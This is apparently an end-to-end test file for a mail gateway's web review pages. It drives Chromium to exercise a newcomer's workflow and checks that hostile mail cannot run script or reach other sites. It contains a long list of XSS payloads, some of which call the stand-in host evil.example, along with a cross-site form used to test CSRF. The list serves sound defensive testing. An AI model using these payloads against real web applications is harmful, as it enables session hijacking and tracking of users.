"""
The review pages in a real browser: what a newcomer does, and what hostile mail cannot do.

Tests W1, W3 and W5 of the list of attacks, as far as they need a browser.
"""

import os
import re
from contextlib import contextmanager
from unittest import SkipTest
from urllib.parse import quote

from mailgate.config.load import load
from mailgate.finding import Finding
from mailgate.hub.storage import open_for_command
from mailgate.interfaces import Hold
from mailgate.knowledge.entry import EntryRefused, ListName, make_entry
from mailgate.message.envelope import Envelope, Session, new_id
from mailgate.message.message import MemoryMessage
from mailgate.message.record import Copy, Record
from mailgate.store import outbox
from mailgate.store.files import Files
from mailgate.store.threads import immediate_result
from mailgate.verdict import Action, Kind, Verdict
from mailgate.web.pages.quarantine import PAGE
from mailgate.wire.address import Address
from mailgate.wire.parameters import RcptParameters
from tests.end_to_end.case import EndToEndTestCase
from tests.end_to_end.client import make_message, send
from tests.end_to_end.gateway import needs

HOLD_ALL = "[policy]\ntag = -3\nquarantine = -2\nreject = 50\n"
NAME = "Ada Lind"
PASSWORD = "correct horse battery"

VECTORS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></div><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '" onerror="alert(1)" src="x',
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<img src=http://evil.example/pixel.gif>",
    '<img srcset="http://evil.example/pixel.gif 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=background:url(http://evil.example/x)>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "<video src=x onerror=alert(1)>",
    "<audio src=http://evil.example/x autoplay>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input type=image src=http://evil.example/x>",
    "<noscript><img src=http://evil.example/x></noscript>",
    "<template><script>alert(1)</script></template>",
    "{{ 7*7 }}{% raw %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<\x00script>alert(1)</script>",
    "\u202egpj.exe<script>alert(1)</script>",
    "<img src=cid:part1 onerror=alert(1)>",
    "@media{}*{color:red}<style>*{display:none}</style>",
    "\ufeff<script>alert(1)</script>",
)


def hostile_message(vector, number):
    """
    Make a message with a vector in everything that a page shows of it.
    """
    raw = vector.encode("utf-8")
    quoted = raw.replace(b"\\", b"\\\\").replace(b'"', b'\\"').replace(b"\x00", b"")
    header = raw.replace(b"\x00", b"")
    return b"\r\n".join(
        (
            b"From: " + header + b" <eve@example.org>",
            b"Subject: " + header,
            b"Date: " + header,
            b"Message-ID: <" + header + b"@example.org>",
            header.replace(b":", b"").replace(b" ", b"-") + b": " + header,
            b'Content-Type: multipart/mixed; boundary="b"',
            b"",
            b"--b",
            b"Content-Type: text/%s; charset=%s"
            % ((b"plain", b"html")[number % 2], (b"utf-8", b"utf-7")[number % 3 == 0]),
            b"",
            raw + b'\r\n<a href="' + raw + b'">' + raw + b"</a>",
            b"--b",
            b'Content-Type: "' + quoted + b'/x"; name="' + quoted + b'"',
            b'Content-Disposition: attachment; filename="x' + quoted + b'"',
            b"",
            b"--b--",
            b"",
        )
    )


def queue_hostile(storage, envelope, message, verdict, vector):
    """
    Put a copy into the outbox, where it is stopped.
    """
    identity = new_id()

    def insert(connection, stored):
        wish = RcptParameters(orcpt=vector)
        now = storage.now()
        outbox.add(
            connection, identity, stored, verdict, wish, now, now, "", vector, destination=vector
        )
        outbox.suspend(connection, outbox.get(connection, identity), vector, now)

    immediate_result(storage.messages.keep(envelope, message, insert))


def store_hostile(gateway):
    """
    Put a hostile message for each vector into the store of a gateway that does not run.

    @return: the ids of the held messages, and the traces.
    """
    storage = open_for_command(load(gateway.config), Files())
    quarantine = storage.quarantine(lambda: None)
    ids, traces = [], []
    for number, vector in enumerate(VECTORS):
        session = Session(new_id(), "mx", "mx", "192.0.2.7", 1, storage.now(), vector, True, vector)
        sender = Address(f'"{vector}"', "example.org")
        recipient = Address(f'"{vector}"', "example.com")
        envelope = Envelope(session, new_id(), sender, storage.now())
        message = MemoryMessage((hostile_message(vector, number),))
        findings = (Finding(vector, 9.0, vector, vector), Finding("B", -1.0, vector))
        kind = tuple(Kind)[number % len(Kind)]
        verdict = Verdict(Action.QUARANTINE, findings, 8.0, (recipient,), kind=kind)
        queue_hostile(storage, envelope, message, verdict, vector)
        hold = Hold(recipient, kind, verdict, vector)
        ids += immediate_result(quarantine.hold(envelope, message, [hold], False))
        traces.append(envelope.trace)
        storage.traces.record(
            Record(
                trace=envelope.trace,
                session=session,
                started=storage.now(),
                seconds=1,
                reply=vector,
                sender=str(sender),
                size=1,
                message_id=vector,
                subject=vector,
                copies=(Copy(str(recipient), "delivered", vector, vector),),
                verdicts=(verdict,),
                notes=(vector,),
            )
        )
        try:
            entry = make_entry(ListName.ALLOW, f"a{number}@example.org", by=vector, note=vector)
            immediate_result(storage.lists.add(entry))
        except EntryRefused:
            # Not even a person can write it there.
            pass
    immediate_result(storage.traces.flush())
    immediate_result(storage.accounts.add(NAME, PASSWORD))
    # An account name is chosen here and not by a stranger; it is shown on every page.
    immediate_result(storage.accounts.add(VECTORS[0], PASSWORD))
    immediate_result(storage.close())
    return ids, traces


class PagesTests(EndToEndTestCase):
    """
    Chromium against a running gateway.
    """

    timeout = 300

    def setUp(self):
        """
        Find Chromium and what drives it.
        """
        (self.chromium,) = needs(self, "chromium")
        try:
            from playwright.sync_api import sync_playwright
        except ImportError:
            if os.environ.get("MAILGATE_REQUIRE_REAL") == "1":
                raise
            raise SkipTest("not installed: playwright") from None
        self.playwright = sync_playwright

    @contextmanager
    def browser(self, gateway, **options):
        """
        Give a page of a fresh browser, and watch what it does.
        """
        self.base = f"http://127.0.0.1:{gateway.web_port}"
        self.asked, self.dialogs, self.complaints = [], [], []
        with self.playwright() as driver:
            browser = driver.chromium.launch(
                executable_path=self.chromium, args=["--no-sandbox", "--disable-gpu"]
            )
            page = browser.new_context(**options).new_page()
            page.on("request", lambda request: self.asked.append(request.url))
            page.on(
                "dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss())
            )
            page.on("console", lambda message: self.complaints.append(message.text))
            page.on("pageerror", lambda error: self.complaints.append(str(error)))
            try:
                yield page
            finally:
                browser.close()

    def go(self, page, selector):
        """
        Click on what leads to another page, and wait until that is there.
        """
        with page.expect_navigation():
            page.click(selector)

    def sign_in(self, page, name=NAME):
        """
        Sign in by the form.
        """
        page.goto(f"{self.base}/")
        page.fill("[name=name]", name)
        page.fill("[name=password]", PASSWORD)
        self.go(page, "text=Sign in >> nth=-1")
        self.assertEqual(page.url, f"{self.base}/quarantine")

    def assert_harmless(self, page, path):
        """
        Hold that a page shows strangers' words as words and fetches nothing from elsewhere.
        """
        foreign = page.evaluate(
            """() => {
                const found = [];
                for (const element of document.querySelectorAll("*")) {
                    for (const attribute of element.attributes) {
                        if (/^on/i.test(attribute.name)) found.push(element.outerHTML);
                        if (/^\\s*javascript:/i.test(attribute.value)
                            && !/^(aria-label|value|title)$/.test(attribute.name))
                            found.push(element.outerHTML);
                    }
                }
                const odd = "img, iframe, object, embed, base, style, video, audio, template,"
                    + " noscript, math, marquee, textarea, meta[http-equiv], [style], svg script";
                for (const element of document.querySelectorAll(odd)) found.push(element.outerHTML);
                const scripts = [...document.scripts].map((script) => script.src);
                if (scripts.length !== 1) found.push(...scripts);
                for (const form of document.forms)
                    if (new URL(form.action).origin !== location.origin) found.push(form.action);
                return found;
            }"""
        )
        self.assertEqual(foreign, [], path)
        self.assertEqual(self.dialogs, [], path)
        self.assertEqual(self.complaints, [], path)
        elsewhere = [url for url in self.asked if not url.startswith((f"{self.base}/", "data:,"))]
        self.assertEqual(elsewhere, [], path)

    def newcomer(self, **options):
        """
        Do what a newcomer does: open the link, make the account, release, delete, sign out.
        """
        gateway = self.gateway(tables=HOLD_ALL).start()
        for number in range(4):
            send(gateway.smtp_port, make_message(f"message {number}")[1])
        link = self.eventually(
            lambda: re.search(r"http://\S+/setup/\S+", gateway.said()), "no link was printed"
        )[0]
        with self.browser(gateway, **options) as page:
            page.goto(link)
            page.fill("[name=name]", NAME)
            page.fill("[name=password]", PASSWORD)
            self.go(page, "text=Make the account >> nth=-1")
            self.assertEqual(page.url, f"{self.base}/quarantine")
            self.assertIn("you are signed in", page.inner_text(".note"))
            self.assertEqual(page.locator(".row").count(), 4)
            self.assertTrue(page.locator(".bulk").is_hidden())

            self.go(page, "[aria-label='Release: message 3']")
            self.assertIn("One message released.", page.inner_text(".note"))
            self.eventually(lambda: len(gateway.delivered()) == 1, "it was not delivered")
            self.assertIn(b"Subject: message 3\n", gateway.delivered()[0])

            self.go(page, ".what >> text=message 2")
            self.assertIn("Held because", page.inner_text("#why"))
            self.go(page, "aside >> text=Release to the recipient")
            self.eventually(lambda: len(gateway.delivered()) == 2, "it was not delivered")

            for box in page.locator("[name=id]").all():
                box.check()
            self.assertTrue(page.locator(".bulk").is_visible())
            self.go(page, '.bulk >> text="Delete"')
            self.assertIn("2 messages deleted.", page.inner_text(".note"))
            self.assertIn("Nothing is held.", page.inner_text(".lede"))

            self.go(page, "footer >> text=Dark")
            self.assertEqual(page.get_attribute("html", "data-theme"), "dark")
            page.goto(f"{self.base}/outbox")
            self.assertEqual(page.get_attribute("html", "data-theme"), "dark")

            page.click("summary >> nth=0")
            self.go(page, ".menu >> text=Sign out")
            self.assertEqual(page.url, f"{self.base}/sign-in")
            self.sign_in(page)
            self.assert_harmless(page, page.url)
        self.assertEqual(len(gateway.delivered()), 2)

    def test_newcomer(self):
        """
        With nothing but the printed link a newcomer gets an account and works with it.
        """
        self.newcomer()

    def test_without_javascript(self):
        """
        All of that works without JavaScript.
        """
        self.newcomer(java_script_enabled=False)

    def mended(self, **options):
        """
        Mend a message that was held by mistake, and hold another one back, from the pages.
        """
        gateway = self.gateway(tables=HOLD_ALL).start()
        gateway.run("user", "add", NAME, "--password-stdin", input=f"{PASSWORD}\n")
        send(gateway.smtp_port, make_message("wanted")[1])
        with self.browser(gateway, **options) as page:
            self.sign_in(page)
            self.go(page, ".what >> text=wanted")
            self.go(page, "aside >> text=Release and allow the sender")
            self.assertIn("The sender is allowed from now on.", page.inner_text(".note"))
            self.eventually(lambda: len(gateway.delivered()) == 1, "it was not released")
            send(gateway.smtp_port, make_message("the next one")[1])
            self.eventually(lambda: len(gateway.delivered()) == 2, "the sender is not allowed")

            self.go(page, ".nav >> text=Lists")
            self.assertIn("if verified", page.inner_text("tbody tr"))
            self.go(page, "tbody >> text=Remove")
            self.assertIn("The entry is removed", page.inner_text(".note"))
            send(gateway.smtp_port, make_message("once more")[1])
            page.goto(f"{self.base}/quarantine")
            page.fill("[name=q]", "ONCE")
            with page.expect_navigation():
                page.press("[name=q]", "Enter")
            self.assertEqual(page.locator(".row").count(), 1)
            self.go(page, ".what >> text=once more")
            self.go(page, "aside >> text=Block this sender")
            self.assertIn("Blocked from now on.", page.inner_text(".note"))
            self.go(page, "aside >> text=Delete as spam")
            self.assertIn("deleted as spam. The filter learns from it.", page.inner_text(".note"))
            self.assert_harmless(page, page.url)
        status = self.eventually(
            lambda: (
                (said := gateway.run("learn", "--status").stdout) and "1 of ham" in said and said
            ),
            "nothing was learned",
        )
        self.assertIn("1 message of spam", status.replace("messages", "message"))

    def test_mended(self):
        """
        What was held by mistake is released, and its sender allowed, with one click.
        """
        self.mended()

    def test_mended_without_javascript(self):
        """
        All of that works without JavaScript.
        """
        self.mended(java_script_enabled=False)

    def test_phone(self):
        """
        On a telephone no page has to be moved sideways, and every cell of a table can be seen.
        """
        gateway = self.gateway()
        ids, traces = store_hostile(gateway)
        gateway.start()
        for width in (320, 390):
            viewport = {"width": width, "height": 844}
            with self.browser(gateway, viewport=viewport) as page:
                self.sign_in(page)
                paths = ["/quarantine", "/quarantine?q=script", "/outbox", "/lists", "/account"]
                paths += [f"/quarantine/{ids[0]}", f"/trace/{traces[0]}"]
                for path in paths:
                    page.goto(f"{self.base}{path}")
                    wide = page.evaluate(
                        """() => [...document.querySelectorAll("html, td, th, .row, .bars")]
                            .filter((element) => element.scrollWidth > element.clientWidth + 1
                                || element.getBoundingClientRect().right > innerWidth)
                            .map((element) => element.outerHTML.slice(0, 200))"""
                    )
                    self.assertEqual(wide, [], f"{path} at {width}")

    def test_select_all(self):
        """
        With JavaScript one button selects all of a page, and none again.
        """
        gateway = self.gateway()
        store_hostile(gateway)
        gateway.start()
        with self.browser(gateway) as page:
            self.sign_in(page)
            page.click("text=Select all")
            self.assertEqual(page.locator("[name=id]:checked").count(), min(PAGE, len(VECTORS)))
            page.click("text=Select all")
            self.assertEqual(page.locator("[name=id]:checked").count(), 0)
            page.click("text=Select all")
            self.go(page, ".bulk >> text=Release")
            self.assertIn(f"{min(PAGE, len(VECTORS))} messages released.", page.inner_text(".note"))

    def test_w3_hostile_mail(self):
        """
        No script runs from any field that is shown, and no request leaves the browser.
        """
        gateway = self.gateway()
        ids, traces = store_hostile(gateway)
        gateway.start()
        with self.browser(gateway) as page:
            self.sign_in(page)
            self.assertEqual(page.locator(".row").count(), min(PAGE, len(VECTORS)))
            paths = ["/quarantine", "/outbox", "/lists"]
            paths += [f"/quarantine/{identity}" for identity in ids]
            paths += [f"/trace/{trace}" for trace in traces]
            for path in paths:
                page.goto(f"{self.base}{path}")
                page.evaluate("document.querySelectorAll('details').forEach((d) => d.open = true)")
                self.assert_harmless(page, path)
            for number, identity in enumerate(ids[:3]):
                page.goto(f"{self.base}/quarantine/{identity}")
                shown = page.inner_text("h1")
                self.assertEqual(shown, VECTORS[number])

    def test_w3_hostile_names(self):
        """
        Not even the name of an account, or what was searched for, is more than words.
        """
        gateway = self.gateway()
        store_hostile(gateway)
        gateway.start()
        with self.browser(gateway) as page:
            self.sign_in(page, VECTORS[0])
            for vector in VECTORS:
                page.goto(f"{self.base}/trace")
                page.fill("[name=q]", vector.replace("\x00", ""))
                page.press("[name=q]", "Enter")
                page.wait_for_url("**/trace?q=*")
                self.assert_harmless(page, vector)
                for path in ("/quarantine", "/lists"):
                    page.goto(f"{self.base}{path}?q={quote(vector)}")
                    self.assert_harmless(page, f"{path} {vector}")
            page.goto(f"{self.base}/account")
            self.assert_harmless(page, "/account")

    def test_w5_form_of_another_site(self):
        """
        A form of another site does nothing, also while one is signed in (CSRF).
        """
        gateway = self.gateway()
        ids, _ = store_hostile(gateway)
        gateway.start()
        with self.browser(gateway) as page:
            self.sign_in(page)
            evil = (
                f"<form method=post action='{self.base}/quarantine'>"
                f"<input name=do value=delete><input name=id value={ids[0]}><button>Go</button>"
                f"</form><iframe src='{self.base}/quarantine'></iframe>"
            )
            page.context.route(
                "http://evil.example/",
                lambda route: route.fulfill(body=evil, content_type="text/html"),
            )
            page.goto("http://evil.example/")
            self.assertEqual(page.frames[1].url, "chrome-error://chromewebdata/")
            self.go(page, "text=Go")
            page.goto(f"{self.base}/quarantine")
            self.assertEqual(page.locator(".row").count(), min(PAGE, len(VECTORS)))

    def test_keys(self):
        """
        Single keys move and choose, until they are turned off.
        """
        gateway = self.gateway()
        store_hostile(gateway)
        gateway.start()
        with self.browser(gateway) as page:
            self.sign_in(page)
            page.keyboard.press("j")
            page.keyboard.press("x")
            self.assertEqual(page.locator(":checked").count(), 1)
            self.go(page, "text=Turn keys off")
            page.keyboard.press("j")
            page.keyboard.press("x")
            self.assertEqual(page.locator(":checked").count(), 0)
